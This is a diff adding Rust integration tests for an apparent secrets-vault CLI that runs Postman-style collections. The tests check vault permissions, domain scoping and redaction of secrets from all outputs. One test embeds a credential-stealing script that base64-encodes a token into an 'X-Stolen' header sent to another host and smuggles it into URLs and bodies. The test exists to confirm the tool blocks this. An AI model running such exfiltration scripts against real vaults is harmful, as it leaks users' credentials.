@@ -6,6 +6,13 @@
 
 mod common;
 
+#[allow(dead_code)]
+#[path = "../../locket-providers/tests/support/fake_connect.rs"]
+mod fake_connect;
+#[allow(dead_code)]
+#[path = "../../locket-providers/tests/support/fake_http.rs"]
+mod fake_http;
+
 use std::collections::HashSet;
 use std::io::{BufReader, Write};
 use std::net::{TcpListener, TcpStream};
@@ -1682,6 +1689,502 @@ fn more_iterations_than_data_rows_repeat_the_last_row_as_newman_does() {
     ok(cmd);
     let targets: Vec<String> = server.requests().iter().map(|s| s.target.clone()).collect();
     assert_eq!(targets, ["/r?a=one", "/r?a=two", "/r?a=two", "/r?a=two"]);
+}
+
+// ---- pm.vault ---------------------------------------------------------------------------
+
+const MINTED: &str = "minted-by-script-5d1e88c0";
+const ROTATED: &str = "rotated-by-script-0b7f3a19";
+
+/// A request with one test script.
+fn tested(name: &str, url: &str, code: &str) -> Value {
+    json!({"name": name, "request": {"method": "GET", "url": url},
+           "event": [{"listen": "test", "script": {"exec": [code]}}]})
+}
+
+/// `locket --json list`, by name.
+fn listed(v: &TestVault) -> std::collections::HashMap<String, Value> {
+    let out = v.cmd().args(["--json", "list"]).output().unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let all: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+    all.into_iter()
+        .map(|s| (s["name"].as_str().unwrap().to_string(), s))
+        .collect()
+}
+
+/// Every failure message of a JSON report.
+fn failure_messages(path: &std::path::Path) -> Vec<String> {
+    let r: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
+    r["run"]["failures"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            f["error"]["message"]
+                .as_str()
+                .unwrap_or_default()
+                .to_string()
+        })
+        .collect()
+}
+
+#[test]
+fn pm_vault_is_denied_without_permission_and_the_run_goes_on() {
+    let v = TestVault::new();
+    let server = Server::echo();
+    let dir = Dir::new();
+    secret(&v, "token", TOKEN, &[]);
+    let handled = "pm.vault.get('token').then(v => console.log('got', v), e => console.log('get:', e.message));\n\
+                   pm.vault.set('token', 'changed').catch(e => console.log('set:', e.message));\n\
+                   pm.vault.unset('token').catch(e => console.log('unset:', e.message));";
+    let c = collection(
+        json!([
+            tested("handled", &server.url("/a"), handled),
+            tested(
+                "unhandled",
+                &server.url("/b"),
+                "pm.vault.get('token'); console.log('the script goes on');"
+            ),
+            get("after", &server.url("/c"))
+        ]),
+        json!({}),
+    );
+    let mut cmd = vault_run(&v, &dir, &c);
+    cmd.args([
+        "-r",
+        "cli,json,junit",
+        "--reporter-json-export",
+        "r.json",
+        "--reporter-junit-export",
+        "r.xml",
+    ]);
+    let out = exec(cmd);
+    assert_eq!(
+        out.code, 1,
+        "the unhandled rejection is a script error\n{}",
+        out.stdout
+    );
+    assert_eq!(server.requests().len(), 3, "the run went on");
+    for op in ["get", "set", "unset"] {
+        assert!(
+            out.stdout.contains(&format!("{op}: Vault access denied")),
+            "{}",
+            out.stdout
+        );
+    }
+    assert!(out.stdout.contains("the script goes on"), "{}", out.stdout);
+    assert!(!out.stdout.contains("Scripts may use the vault"));
+    let failures = failure_messages(&dir.path("r.json"));
+    assert_eq!(failures.len(), 1, "{failures:?}");
+    assert!(
+        failures[0].starts_with("Vault access denied"),
+        "{failures:?}"
+    );
+    assert!(failures[0].contains("--allow-script-vault"), "{failures:?}");
+    let junit = std::fs::read_to_string(dir.path("r.xml")).unwrap();
+    assert!(junit.contains("Vault access denied"), "{junit}");
+    assert_eq!(v.get("token"), TOKEN, "nothing changed in the vault");
+    assert!(!out.stdout.contains(TOKEN) && !out.stderr.contains(TOKEN));
+}
+
+#[test]
+fn an_allowed_get_reads_only_secrets_allowed_for_the_request() {
+    let v = TestVault::new();
+    let server = Server::echo();
+    let dir = Dir::new();
+    secret(&v, "token", TOKEN, &[&server.origin()]);
+    secret(&v, "elsewhere", API_KEY, &["api.example.com"]);
+    secret(&v, "off", "disabled-value-1234", &[]);
+    secret(&v, "pin", "12", &[]);
+    v.cmd().args(["disable", "off"]).assert().success();
+    let read = "const t = await pm.vault.get('token');\n\
+                console.log('pin', (await pm.vault.get('pin')).length);\n\
+                pm.environment.set('t', t);\n\
+                console.log('token is', t);\n\
+                console.log('elsewhere', await pm.vault.get('elsewhere'));\n\
+                console.log('off', await pm.vault.get('off'));\n\
+                console.log('missing', await pm.vault.get('missing'));";
+    let pre = "pm.variables.set('p', await pm.vault.get('token'));";
+    let c = collection(
+        json!([
+            tested("read", &server.url("/read"), read),
+            {"name": "use", "request": {"method": "GET", "url": server.url("/use"),
+                "header": [{"key": "X-T", "value": "{{t}}"}, {"key": "X-P", "value": "{{p}}"}]},
+             "event": [{"listen": "prerequest", "script": {"exec": [pre]}}]}
+        ]),
+        json!({}),
+    );
+    for permission in ["flag", "env"] {
+        let mut cmd = vault_run(&v, &dir, &c);
+        match permission {
+            "flag" => cmd.arg("--allow-script-vault"),
+            _ => cmd.env("LOCKET_ALLOW_SCRIPT_VAULT", "1"),
+        };
+        let out = ok(cmd);
+        assert_eq!(
+            out.stdout.matches("Scripts may use the vault").count(),
+            1,
+            "{}",
+            out.stdout
+        );
+        assert!(out.stdout.contains("token is ********"), "{}", out.stdout);
+        for line in ["elsewhere undefined", "off undefined", "missing undefined"] {
+            assert!(out.stdout.contains(line), "{line}\n{}", out.stdout);
+        }
+        assert!(
+            out.stderr.contains(
+                "pm.vault.get(elsewhere): elsewhere is not allowed to be sent to 127.0.0.1"
+            ),
+            "{}",
+            out.stderr
+        );
+        assert!(
+            !out.stderr.contains("pm.vault.get(off)")
+                && !out.stderr.contains("pm.vault.get(token)")
+        );
+        assert!(out.stdout.contains("pin 2"), "{}", out.stdout);
+        assert!(
+            out.stderr
+                .contains("pm.vault.get(pin): the value is shorter than 4 characters"),
+            "{}",
+            out.stderr
+        );
+        let used = server.requests().into_iter().last().unwrap();
+        assert_eq!(
+            used.header("x-t"),
+            Some(TOKEN),
+            "the value read was the secret's"
+        );
+        assert_eq!(
+            used.header("x-p"),
+            Some(TOKEN),
+            "pre-request scripts read too"
+        );
+        for text in [&out.stdout, &out.stderr] {
+            for value in [TOKEN, API_KEY, "disabled-value-1234"] {
+                assert!(!text.contains(value), "{value} leaked:\n{text}");
+            }
+        }
+    }
+}
+
+#[test]
+fn set_stores_as_locket_set_does_and_unset_removes() {
+    let v = TestVault::new();
+    let server = Server::echo();
+    let dir = Dir::new();
+    secret(&v, "scoped", TOKEN, &[&server.origin()]);
+    secret(&v, "off", "old-disabled-value", &[]);
+    v.cmd().args(["disable", "off"]).assert().success();
+    secret(&v, "doomed", API_KEY, &[]);
+    let script = format!(
+        "await pm.vault.set('minted', '{MINTED}');\n\
+         await pm.vault.set('scoped', '{ROTATED}');\n\
+         await pm.vault.set('off', 'enabled-again-value');\n\
+         await pm.vault.unset('doomed');\n\
+         await pm.vault.unset('never-was');\n\
+         console.log('read back', (await pm.vault.get('minted')).length);"
+    );
+    // Later references see what the script wrote: the new value, or no value once unset.
+    let c = collection(
+        json!([
+            tested("write", &server.url("/w"), &script),
+            {"name": "rotated", "request": {"method": "GET", "url": server.url("/r"),
+                "header": [{"key": "X-Scoped", "value": "{{vault:scoped}}"}]}},
+            {"name": "removed", "request": {"method": "GET", "url": server.url("/d"),
+                "header": [{"key": "X-Doomed", "value": "{{vault:doomed}}"}]}}
+        ]),
+        json!({}),
+    );
+    let mut cmd = vault_run(&v, &dir, &c);
+    cmd.args([
+        "--allow-script-vault",
+        "-r",
+        "cli,json",
+        "--reporter-json-export",
+        "r.json",
+    ]);
+    let out = exec(cmd);
+    assert_eq!(
+        out.code, 1,
+        "the request to the removed secret failed\n{}",
+        out.stderr
+    );
+    let sent: Vec<String> = server.requests().iter().map(|s| s.target.clone()).collect();
+    assert_eq!(sent, ["/w", "/r"]);
+    assert_eq!(server.requests()[1].header("x-scoped"), Some(ROTATED));
+    let failures = failure_messages(&dir.path("r.json"));
+    assert_eq!(
+        failures,
+        [
+            "{{vault:doomed}} could not be resolved: a script removed it (pm.vault.unset) earlier in this run"
+        ]
+    );
+    assert!(
+        out.stdout.contains(&format!("read back {}", MINTED.len())),
+        "{}",
+        out.stdout
+    );
+    assert_eq!(v.get("minted"), MINTED);
+    assert_eq!(v.get("scoped"), ROTATED);
+    assert_eq!(v.get("off"), "enabled-again-value");
+    let list = listed(&v);
+    assert_eq!(
+        list["minted"]["allowed_domains"],
+        json!([]),
+        "a new secret: no allowed domains"
+    );
+    assert_eq!(
+        list["scoped"]["allowed_domains"],
+        json!([server.origin()]),
+        "kept, as locket set keeps them"
+    );
+    assert_eq!(
+        list["off"]["enabled"],
+        json!(true),
+        "set enables, as in Postman"
+    );
+    assert!(!list.contains_key("doomed"), "unset removed it");
+    v.cmd().args(["get", "doomed"]).assert().failure();
+    for text in [&out.stdout, &out.stderr] {
+        for value in [MINTED, ROTATED, "enabled-again-value"] {
+            assert!(!text.contains(value), "{value} leaked:\n{text}");
+        }
+    }
+}
+
+#[test]
+fn a_value_a_script_touched_cannot_leave_for_a_host_it_may_not_reach() {
+    let v = TestVault::new();
+    let allowed = Server::echo();
+    let other = Server::echo();
+    let dir = Dir::new();
+    secret(&v, "token", TOKEN, &[&allowed.origin()]);
+    secret(&v, "scoped", API_KEY, &[&allowed.origin()]);
+    // Read (then smuggled base64 and percent-encoded), and written (a new value of a scoped
+    // secret): neither reaches the other server, by pm.sendRequest or by a collection request.
+    let steal = format!(
+        "const t = await pm.vault.get('token');\n\
+         await pm.vault.set('scoped', '{ROTATED}');\n\
+         try {{ await pm.sendRequest({{ url: '{}', header: {{ 'X-Stolen': btoa(t) }} }}); console.log('sent'); }}\n\
+         catch (e) {{ console.log('refused:', e.message); }}\n\
+         pm.environment.set('stolen', encodeURIComponent(t));\n\
+         pm.environment.set('rotated', '{ROTATED}');",
+        other.url("/send-request")
+    );
+    let c = collection(
+        json!([
+            tested("steal", &allowed.url("/read"), &steal),
+            get("by url", &other.url("/u?x={{stolen}}")),
+            {"name": "by body", "request": {"method": "POST", "url": other.url("/b"),
+                "body": {"mode": "raw", "raw": "{\"v\": \"{{rotated}}\"}"}}},
+            get("clean", &other.url("/clean"))
+        ]),
+        json!({}),
+    );
+    let mut cmd = vault_run(&v, &dir, &c);
+    cmd.args([
+        "--allow-script-vault",
+        "-r",
+        "cli,json",
+        "--reporter-json-export",
+        "r.json",
+    ]);
+    let out = exec(cmd);
+    assert_eq!(out.code, 1, "{}\n{}", out.stdout, out.stderr);
+    let reached: Vec<String> = other.requests().iter().map(|s| s.target.clone()).collect();
+    assert_eq!(
+        reached,
+        ["/clean"],
+        "nothing a script touched reached the other host"
+    );
+    let host = format!("127.0.0.1:{}", other.port);
+    assert!(out.stdout.contains("refused: "), "{}", out.stdout);
+    let failures = failure_messages(&dir.path("r.json"));
+    assert_eq!(failures.len(), 2, "{failures:?}");
+    assert!(
+        failures[0].contains("token is not allowed") && failures[0].contains(&host),
+        "{failures:?}"
+    );
+    assert!(
+        failures[1].contains("scoped is not allowed") && failures[1].contains(&host),
+        "{failures:?}"
+    );
+    assert!(
+        out.stdout.contains("token is not allowed to be sent to")
+            && out.stdout.contains("refused: nothing was sent"),
+        "pm.sendRequest's refusal names the secret and host:\n{}",
+        out.stdout
+    );
+    for text in [
+        &out.stdout,
+        &out.stderr,
+        &std::fs::read_to_string(dir.path("r.json")).unwrap(),
+    ] {
+        for value in [TOKEN, ROTATED, &BASE64.encode(TOKEN.as_bytes())] {
+            assert!(!text.contains(value), "{value} leaked:\n{text}");
+        }
+    }
+}
+
+#[test]
+fn nothing_a_script_reads_sets_or_logs_leaks_into_any_output_or_export() {
+    let v = TestVault::new();
+    let server = Server::echo();
+    let dir = Dir::new();
+    secret(&v, "token", TOKEN, &[&server.origin()]);
+    let script = format!(
+        "const t = await pm.vault.get('token');\n\
+         await pm.vault.set('minted', '{MINTED}');\n\
+         console.log('read', t, 'set', '{MINTED}', btoa(t), JSON.stringify({{ t }}));\n\
+         console.warn(encodeURIComponent(t + ' ' + '{MINTED}'));\n\
+         pm.environment.set('t', t);\n\
+         pm.environment.set('header', 'Bearer ' + t);\n\
+         pm.globals.set('m', '{MINTED}');\n\
+         pm.test('has ' + t, () => pm.expect(t).to.equal('{MINTED}'));"
+    );
+    let c = collection(
+        json!([
+            tested("touch", &server.url("/touch"), &script),
+            {"name": "echo", "request": {"method": "POST", "url": server.url("/echo"),
+                "header": [{"key": "Authorization", "value": "{{header}}"}],
+                "body": {"mode": "raw", "raw": "{{t}} {{m}}"}},
+             "event": [{"listen": "test", "script": {"exec": ["console.log(pm.response.text()); pm.test(pm.response.text(), () => { throw new Error(pm.response.text()); });"]}}]}
+        ]),
+        json!({}),
+    );
+    let env = dir.write("env.json", json!({"name": "e", "values": []}).to_string());
+    let mut cmd = vault_run(&v, &dir, &c);
+    cmd.arg("-e").arg(&env).args([
+        "--allow-script-vault",
+        "-r",
+        "cli,json,junit",
+        "--reporter-json-export",
+        "out/r.json",
+        "--reporter-junit-export",
+        "out/r.xml",
+        "--export-environment",
+        "out/env.json",
+        "--export-globals",
+        "out/globals.json",
+        "--verbose",
+    ]);
+    let out = exec(cmd);
+    assert_eq!(out.code, 1, "the failing assertions\n{}", out.stderr);
+    let echo = server.requests().into_iter().last().unwrap();
+    assert_eq!(
+        echo.body_text(),
+        format!("{TOKEN} {MINTED}"),
+        "the values did reach the allowed host"
+    );
+
+    let exported: Value =
+        serde_json::from_slice(&std::fs::read(dir.path("out/env.json")).unwrap()).unwrap();
+    let value = |key: &str| {
+        exported["values"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|v| v["key"] == key)
+            .map(|v| v["value"].clone())
+    };
+    assert_eq!(value("t"), Some(json!("{{vault:token}}")), "{exported}");
+    assert_eq!(
+        value("header"),
+        Some(json!("Bearer {{vault:token}}")),
+        "{exported}"
+    );
+    let globals: Value =
+        serde_json::from_slice(&std::fs::read(dir.path("out/globals.json")).unwrap()).unwrap();
+    assert_eq!(
+        globals["values"][0]["value"],
+        json!("{{vault:minted}}"),
+        "{globals}"
+    );
+
+    // Everything locket wrote (the collection, the input, holds the script's literal).
+    let mut outputs = vec![out.stdout.clone(), out.stderr.clone()];
+    for file in files_under(&dir.path("out")) {
+        outputs.push(String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned());
+    }
+    assert_eq!(outputs.len(), 6, "stdout, stderr and four files");
+    let forms = [
+        TOKEN.to_string(),
+        MINTED.to_string(),
+        BASE64.encode(TOKEN.as_bytes()),
+        format!("{TOKEN}%20{MINTED}"),
+    ];
+    for text in &outputs {
+        for value in &forms {
+            assert!(!text.contains(value.as_str()), "{value} leaked:\n{text}");
+        }
+    }
+}
+
+#[test]
+fn a_linked_secret_is_read_through_its_external_vault_and_never_written_by_scripts() {
+    const CONNECT_TOKEN: &str = "eyJhbGciOiJFUzI1NiJ9.run-test-connect-token.sig";
+    const LINKED: &str = "sk_live_linked_from_connect_8080";
+    let connect = fake_connect::FakeConnect::start(CONNECT_TOKEN);
+    let prod = connect.add_vault("Prod");
+    connect.put_item(&prod, "Stripe", &[("secret-key", LINKED)]);
+    let v = TestVault::new();
+    v.cmd()
+        .args(["integration", "add", "1password", "op", "--connect-host"])
+        .arg(connect.url())
+        .arg("--connect-token-stdin")
+        .write_stdin(format!("{CONNECT_TOKEN}\n"))
+        .assert()
+        .success();
+    let server = Server::echo();
+    let dir = Dir::new();
+    v.cmd()
+        .args(["link", "stripe", "op://Prod/Stripe/secret-key", "--allow"])
+        .arg(server.origin())
+        .assert()
+        .success();
+    let script = "const s = await pm.vault.get('stripe');\n\
+                  pm.environment.set('s', s);\n\
+                  await pm.vault.set('stripe', 'overwritten').catch(e => console.log('set:', e.message));\n\
+                  await pm.vault.unset('stripe').catch(e => console.log('unset:', e.message));";
+    let c = collection(
+        json!([
+            tested("linked", &server.url("/l"), script),
+            {"name": "use", "request": {"method": "GET", "url": server.url("/use"),
+                "header": [{"key": "X-S", "value": "{{s}}"}]}}
+        ]),
+        json!({}),
+    );
+    let mut cmd = vault_run(&v, &dir, &c);
+    cmd.arg("--allow-script-vault");
+    let out = ok(cmd);
+    assert_eq!(
+        server.requests().last().unwrap().header("x-s"),
+        Some(LINKED),
+        "fetched from the external vault"
+    );
+    assert!(
+        out.stdout.contains(
+            "set: pm.vault.set(stripe): \"stripe\" is linked to op:op://Prod/Stripe/secret-key"
+        ),
+        "{}",
+        out.stdout
+    );
+    assert!(
+        out.stdout.contains(
+            "unset: pm.vault.unset(stripe): stripe is linked to op:op://Prod/Stripe/secret-key"
+        ),
+        "{}",
+        out.stdout
+    );
+    assert!(listed(&v)["stripe"]["link"].is_object(), "still linked");
+    for text in [&out.stdout, &out.stderr] {
+        assert!(!text.contains(LINKED), "leaked:\n{text}");
+    }
 }
 
 // ---- cookies ------------------------------------------------------------------------------
